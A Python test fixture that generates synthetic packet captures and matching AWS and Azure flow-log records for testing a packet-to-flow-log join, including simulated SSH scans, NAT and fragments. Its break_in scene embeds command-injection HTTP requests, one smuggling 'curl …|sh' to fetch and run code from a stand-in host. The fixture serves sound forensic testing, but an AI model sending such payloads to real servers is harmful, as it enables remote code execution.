#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""A case for the join: packets, and the flow logs that clouds would have written of them, so that the truth is known.

The logs are derived from the packets by the clouds' own rules: AWS counts one direction at one interface in windows of a
minute and writes whole seconds; Azure writes a tuple when a flow begins, every five minutes, and when it ends, and counts
both directions. As a script, writes the sample case: tests/join/case.py FOLDER
"""
import dataclasses
import json
import pathlib
import random
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "mirror"))
from packets import ACK, FIN, PSH, RST, SYN, ethernet, ip, pcap, ping, tcp, udp, tunnel, vxlan  # noqa: E402

START = 1700000000
WINDOW, PERIOD = 60, 300
WEB, DB, JUMP, INSIDE, NAT = "10.0.0.9", "10.0.0.20", "10.0.0.5", "10.0.1.5", "10.0.0.220"
WEB_ENI, DB_ENI, JUMP_ENI, INSIDE_ENI, NAT_ENI = (f"eni-0{letter * 16}" for letter in "abcde")
OUTSIDE, ATTACKER, SERVER = "198.51.100.7", "203.0.113.9", "203.0.113.80"
AZURE_VM, AZURE_MAC = "10.1.0.4", "00224871C205"
V2 = "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status"
V5 = ("version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status "
      "tcp-flags pkt-srcaddr pkt-dstaddr flow-direction")


@dataclasses.dataclass(frozen=True)
class Packet:
    """An IP packet and when it passed. ports are those of the flow, also in a fragment that does not carry them."""
    at: float  # seconds after START
    data: bytes
    src: str
    dst: str
    proto: int
    ports: tuple = (0, 0)
    flags: int = 0

    @property
    def size(self) -> int:
        return len(self.data)


@dataclasses.dataclass
class Record:
    """A row of a log, and the packets that it counts, by their place in the case."""
    row: str
    interface: str
    packets: list
    key: tuple
    first: float = 0
    marks: bool = False  # it counts none, but says that its packet opened the flow
    entry: dict | None = None  # of a log of objects, of which row is a value


class Clock:
    """Times that no two packets of a case share, so that a frame is known by its time."""

    def __init__(self):
        self.used = set()

    def __call__(self, at: float) -> float:
        micros = round(at * 1000000)
        while micros in self.used:
            micros += 1
        self.used.add(micros)
        return micros / 1000000


class Case:
    def __init__(self, seed: int = 1):
        self.dice = random.Random(seed)
        self.clock = Clock()
        self.packets: list[Packet] = []
        self.seen: dict[str, list] = {}    # interface -> [(place, direction, action, log's view)]
        self.azure_flows: list = []        # ([place], initiator, denied, rule)
        self.records: list[Record] = []

    # ---- packets ----

    def add(self, at: float, data: bytes, src: str, dst: str, proto: int, ports=(0, 0), flags: int = 0) -> int:
        self.packets.append(Packet(self.clock(at), data, src, dst, proto, ports, flags))
        return len(self.packets) - 1

    def tcp(self, at: float, src, dst, sport, dport, flags, payload: bytes = b"", seq: int = 1000, ack: int = 0) -> int:
        data = tcp(src, dst, sport, dport, flags, seq, ack, payload)
        return self.add(at, data, src, dst, 6, (sport, dport), flags)

    def session(self, at: float, client, server, sport, dport, turns: int = 3, gap: float = 0.05, talk=None) -> list:
        """A whole TCP connection. talk gives what is said: pairs of request and response."""
        plan = [(True, SYN, b""), (False, SYN | ACK, b""), (True, ACK, b"")]
        for request, response in talk or [(bytes(300), bytes(900))] * turns:
            plan += [(True, PSH | ACK, request), (False, PSH | ACK, response), (True, ACK, b"")]
        plan += [(True, FIN | ACK, b""), (False, FIN | ACK, b""), (True, ACK, b"")]
        places, used = [], {True: 1000, False: 5000}
        for i, (up, flags, payload) in enumerate(plan):
            ends = (client, server, sport, dport) if up else (server, client, dport, sport)
            places.append(self.tcp(at + i * gap, *ends, flags, payload, used[up], used[not up] if flags & ACK else 0))
            used[up] += len(payload) + bool(flags & (SYN | FIN))
        return places

    # ---- who sees them ----

    def at_interface(self, eni: str, places, own: str, action: str = "ACCEPT", view=None):
        """The interface of the address own passes these packets; view gives the log's addresses where they differ."""
        for place in places:
            packet = self.packets[place]
            direction = "egress" if packet.src == own else "ingress"
            self.seen.setdefault(eni, []).append((place, direction, action, view or (lambda src, dst: (src, dst))))

    def aws_records(self, late: dict | None = None):
        """The records of all AWS interfaces. late gives seconds by which an interface's times are behind."""
        for eni, sightings in self.seen.items():
            phase = sum(eni.encode()) % WINDOW
            windows: dict[tuple, list] = {}
            for place, direction, action, view in sightings:
                packet = self.packets[place]
                flow = (packet.src, packet.dst, packet.proto, packet.ports, direction, action, view(packet.src, packet.dst))
                windows.setdefault((flow, int(packet.at + phase) // WINDOW), []).append(place)
            for (flow, _), places in windows.items():
                self._aws_record(eni, flow, sorted(places, key=lambda place: self.packets[place].at),
                                 (late or {}).get(eni, 0))

    def _aws_record(self, eni, flow, places, late):
        src, dst, proto, ports, direction, action, (log_src, log_dst) = flow
        packets = [self.packets[place] for place in places]
        flags = 0
        for packet in packets:
            flags |= packet.flags & (FIN | SYN | RST) | (ACK if packet.flags & SYN and packet.flags & ACK else 0)
        start, end = (int(START + packet.at) + late for packet in (packets[0], packets[-1]))
        sizes = sum(packet.size for packet in packets)
        row = (f"5 123456789010 {eni} {log_src} {log_dst} {ports[0]} {ports[1]} {proto} {len(packets)} {sizes} {start} {end} "
               f"{action} OK {flags} {src} {dst} {direction}")
        self.records.append(Record(row, eni, places, (src, dst, proto, ports), start))

    def azure_flow(self, places, denied: bool = False, rule: str = "DefaultRule_AllowVnetOutBound"):
        self.azure_flows.append((places, denied, rule))

    def azure_records(self) -> str:
        """The records of the Azure interface, and the log as JSON."""
        groups = []
        for places, denied, rule in self.azure_flows:
            packets = [(place, self.packets[place]) for place in places]
            opener = packets[0][1]
            head = f"{opener.src},{opener.dst},{opener.ports[0]},{opener.ports[1]},{opener.proto}"
            way = "O" if opener.src == AZURE_VM else "I"
            tuples = []

            def write(at, state, counted, marked=()):
                numbers = [0, 0, 0, 0]
                for place in counted:
                    packet = self.packets[place]
                    numbers[0 if packet.src == opener.src else 2] += 1
                    numbers[1 if packet.src == opener.src else 3] += packet.size
                row = f"{int((START + at) * 1000)},{head},{way},{state},NX," + ",".join(map(str, numbers))
                tuples.append(row)
                key = (opener.src, opener.dst, opener.proto, opener.ports)
                self.records.append(Record(row, AZURE_MAC, list(counted or marked), key, START + at, marks=not counted))

            if denied:
                write(opener.at, "D", [], places)
            else:
                write(opener.at, "B", [], places[:1])
                since, waiting = opener.at, []
                for place, packet in packets:
                    while packet.at > since + PERIOD:
                        since += PERIOD
                        write(since, "C", waiting)
                        waiting = []
                    waiting.append(place)
                write(packets[-1][1].at, "E", waiting)
            groups.append({"rule": rule, "flowTuples": tuples})
        return json.dumps({"records": [{
            "time": "2023-11-14T22:14:00.5625085Z", "flowLogVersion": 4, "flowLogGUID": "abcdef01-2345-6789-0abc-def012345678",
            "macAddress": AZURE_MAC, "category": "FlowLogFlowEvent", "operationName": "FlowLogFlowEvent",
            "targetResourceID": "/subscriptions/0/resourceGroups/shop/providers/Microsoft.Network/virtualNetworks/net",
            "flowRecords": {"flows": [{"aclID": "00000000-1234-abcd-ef00-c1c2c3c4c5c6", "flowGroups": groups}]}}]}) + "\n"

    # ---- files ----

    def aws_log(self, shuffled: bool = True) -> str:
        rows = [record.row for record in self.records if record.interface.startswith("eni-")]
        if shuffled:
            self.dice.shuffle(rows)
        return "\n".join([V5, *rows]) + "\n"

    def plain(self, places=None) -> bytes:
        """The packets as somebody captured them who does not know at which interface."""
        chosen = range(len(self.packets)) if places is None else places
        frames = [(self.packets[place].at, ethernet(self.packets[place].data, ethertype(self.packets[place])))
                  for place in sorted(chosen, key=lambda place: self.packets[place].at)]
        return pcap(frames, start=START)

    def mirrored(self, eni: str, own: str, vni: int) -> bytes:
        """The packets as the mirror session of an interface delivers them."""
        places = sorted({place for place, *_ in self.seen[eni]}, key=lambda place: self.packets[place].at)
        frames = []
        for place in places:
            packet = self.packets[place]
            inner = ethernet(packet.data, ethertype(packet))
            frames.append((packet.at, tunnel(own, "10.0.9.9", vxlan(vni, inner))))
        return pcap(frames, start=START)


def ethertype(packet: Packet) -> int:
    return 0x86dd if ":" in packet.src else 0x0800


# ---- what happens in the case ----

def web(case: Case):
    for i in range(12):
        case.at_interface(WEB_ENI, case.session(2 + 7.3 * i, OUTSIDE, WEB, 40000 + i, 443), WEB)


def brute_force(case: Case):
    """Each attempt is repeated as senders do that hear nothing."""
    for i in range(25):
        at = 5 + 1.9 * i
        places = [case.tcp(at + wait, ATTACKER, JUMP, 50000 + i, 22, SYN) for wait in (0, 1, 3)]
        case.at_interface(JUMP_ENI, places, JUMP, "REJECT")


def blocked_return(case: Case):
    """A network ACL lets the request in and the answer not out."""
    asked = [case.tcp(30 + i, "198.51.100.99", JUMP, 51515, 8080, SYN) for i in range(3)]
    answers = [case.tcp(30.01 + i, JUMP, "198.51.100.99", 8080, 51515, SYN | ACK, seq=5000, ack=1001) for i in range(3)]
    case.at_interface(JUMP_ENI, asked, JUMP)
    case.at_interface(JUMP_ENI, answers, JUMP, "REJECT")


def nat(case: Case):
    """What INSIDE sends passes the gateway, which sends it on with its own address and another port."""
    inner = case.session(20, INSIDE, SERVER, 45678, 443, turns=5)
    outer = case.session(20.0004, NAT, SERVER, 10456, 443, turns=5)
    case.at_interface(INSIDE_ENI, inner, INSIDE)

    def as_gateway(src, dst):
        return (src, NAT) if src == INSIDE else (NAT, dst)
    for place in inner:
        packet = case.packets[place]
        direction = "ingress" if packet.src == INSIDE else "egress"
        case.seen.setdefault(NAT_ENI, []).append((place, direction, "ACCEPT", as_gateway))
    case.at_interface(NAT_ENI, outer, NAT)


def download(case: Case):
    """Over thirty windows, with several packets in the seconds where one window ends and the next begins."""
    places = [case.tcp(10, WEB, OUTSIDE, 33333, 443, SYN), case.tcp(10.02, OUTSIDE, WEB, 443, 33333, SYN | ACK, seq=5000, ack=1001)]
    at, sent = 10.1, 5001
    while at < 10 + 30 * WINDOW:
        places.append(case.tcp(at, OUTSIDE, WEB, 443, 33333, ACK, bytes(1400), seq=sent, ack=1001))
        sent += 1400
        if case.dice.random() < 0.5:
            places.append(case.tcp(at + 0.01, WEB, OUTSIDE, 33333, 443, ACK, seq=1001, ack=sent))
        at += case.dice.choice((0.2, 0.45, 0.9, 2.3))
    case.at_interface(WEB_ENI, places, WEB)


def both_ends(case: Case):
    """The web server asks the database; both interfaces log it."""
    places = case.session(50, WEB, DB, 41234, 5432, turns=30, gap=0.9)
    case.at_interface(WEB_ENI, places, WEB)
    case.at_interface(DB_ENI, places, DB)


def ipv6(case: Case):
    places = case.session(70, "2001:db8::7", "2001:db8:1::9", 42000, 443, turns=6)
    case.at_interface(WEB_ENI, places, "2001:db8:1::9")


def icmp(case: Case):
    places = []
    for i in range(70):
        for reply in (False, True):
            ends = (WEB, OUTSIDE) if reply else (OUTSIDE, WEB)
            places.append(case.add(15 + i + 0.02 * reply, ping(*ends, reply, seq=i), *ends, 1))
    case.at_interface(WEB_ENI, places, WEB)


def unreachable(case: Case):
    """An ICMP error quotes a UDP packet, and is none."""
    asked = udp(WEB, "198.51.100.200", 34000, 161, b"snmp")
    sent = case.add(40, asked, WEB, "198.51.100.200", 17, (34000, 161))
    error = ip("198.51.100.200", WEB, 1, b"\x03\x03" + bytes(6) + asked[:28])
    got = case.add(40.03, error, "198.51.100.200", WEB, 1)
    case.at_interface(WEB_ENI, [sent, got], WEB)


def fragments(case: Case):
    whole = udp(DB, WEB, 2049, 900, bytes(3000))
    head, body = whole[:20], whole[20:]
    places = []
    for i, offset in enumerate(range(0, len(body), 1480)):
        part = body[offset:offset + 1480]
        more = 0x2000 if offset + 1480 < len(body) else 0
        data = ip(DB, WEB, 17, part, ident=77, fragment=more | offset // 8)
        places.append(case.add(45 + i * 0.001, data, DB, WEB, 17, (2049, 900)))
    case.at_interface(DB_ENI, places, DB)
    assert head


def azure(case: Case):
    case.azure_flow(case.session(33, AZURE_VM, SERVER, 23956, 443))
    # One that goes on for a quarter of an hour, and its opposite: who is asked is here.
    case.azure_flow(case.session(40, AZURE_VM, SERVER, 23957, 443, turns=100, gap=3.1))
    case.azure_flow(case.session(44, OUTSIDE, AZURE_VM, 40404, 80, turns=4), rule="UserRule_web")
    for i in range(4):
        places = [case.tcp(60 + 9 * i + wait, ATTACKER, AZURE_VM, 55188 + i, 22, SYN) for wait in (0, 1, 3)]
        case.azure_flow(places, denied=True, rule="BlockHighRiskTCPPortsFromInternet")


def unlogged(case: Case):
    """What AWS does not log. It belongs to no interface's records."""
    case.add(11, udp(WEB, "169.254.169.253", 53000, 53, b"\0\7\1\0\0\1\0\0\0\0\0\0\4shop\7example\0\0\1\0\1"), WEB, "169.254.169.253", 17, (53000, 53))
    case.add(12, tcp(WEB, "169.254.169.254", 34567, 80, SYN, 1), WEB, "169.254.169.254", 6, (34567, 80), SYN)
    case.add(13, udp("0.0.0.0", "255.255.255.255", 68, 67, b"\1\1\6\0" + bytes(232) + b"\x63\x82\x53\x63\x35\1\1\xff"), "0.0.0.0", "255.255.255.255", 17, (68, 67))
    case.add(14, udp(WEB, "10.0.0.77", 42424, 42425, b"lost"), WEB, "10.0.0.77", 17, (42424, 42425))


def silent(case: Case):
    """Accepted, and nothing came back, at an interface that logs both directions of other flows."""
    places = [case.tcp(90 + i, WEB, "198.51.100.201", 35000, 9000, SYN) for i in range(3)]
    case.at_interface(WEB_ENI, places, WEB)


def break_in(case: Case):
    """Who was rejected at the jump host is let in at a port of the web server that nobody remembers."""
    for i in range(8):
        at = 5 + 4.1 * i
        places = [case.tcp(at + wait, ATTACKER, JUMP, 50000 + i, 22, SYN) for wait in (0, 1, 3)]
        case.at_interface(JUMP_ENI, places, JUMP, "REJECT")
    talk = [(b"GET /status?host=localhost;id HTTP/1.1\r\nHost: 10.0.0.9:8080\r\nUser-Agent: curl/8.5.0\r\n\r\n",
             b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 40\r\n\r\nuid=33(www-data) gid=33(www-data)\nup 9d\n"),
            (b"GET /status?host=localhost;curl%20203.0.113.66:8443/a|sh HTTP/1.1\r\nHost: 10.0.0.9:8080\r\n\r\n",
             b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 6\r\n\r\nup 9d\n")]
    case.at_interface(WEB_ENI, case.session(64, ATTACKER, WEB, 50021, 8080, gap=0.4, talk=talk), WEB)
    for i in range(4):
        page = [(b"GET / HTTP/1.1\r\nHost: shop.example\r\n\r\n",
                 b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 12\r\n\r\n<p>Hello</p>")]
        case.at_interface(WEB_ENI, case.session(3 + 23 * i, OUTSIDE, WEB, 40000 + i, 80, talk=page), WEB)
    blocked_return(case)
    unlogged(case)


SCENES = (web, brute_force, blocked_return, nat, download, both_ends, ipv6, icmp, unreachable, fragments, azure, unlogged, silent)


def whole_case(seed: int = 1, scenes=SCENES, late: dict | None = None):
    """The case, and its Azure log."""
    case = Case(seed)
    for scene in scenes:
        scene(case)
    case.aws_records(late)
    return case, case.azure_records()


def main(folder: pathlib.Path):
    case, _ = whole_case(scenes=(break_in,))
    (folder / "case-aws.log").write_text(case.aws_log(), encoding="ascii")
    (folder / "case-packets.pcap").write_bytes(case.plain())


if __name__ == "__main__":
    main(pathlib.Path(sys.argv[1]))
